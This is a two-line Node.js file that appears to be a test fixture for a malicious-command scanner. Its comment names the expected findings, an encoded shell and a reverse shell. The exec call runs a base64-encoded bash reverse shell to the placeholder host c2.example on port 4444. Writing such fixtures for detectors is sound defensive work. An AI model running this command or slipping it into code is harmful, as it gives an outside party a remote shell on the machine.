const { exec } = require('child_process');

exec(Buffer.from('YmFzaCAtaSA+JiAvZGV2L3RjcC9jMi5leGFtcGxlLzQ0NDQgMD4mMQ==', 'base64').toString()); // expect: malicious-command/encoded-shell, malicious-command/reverse-shell
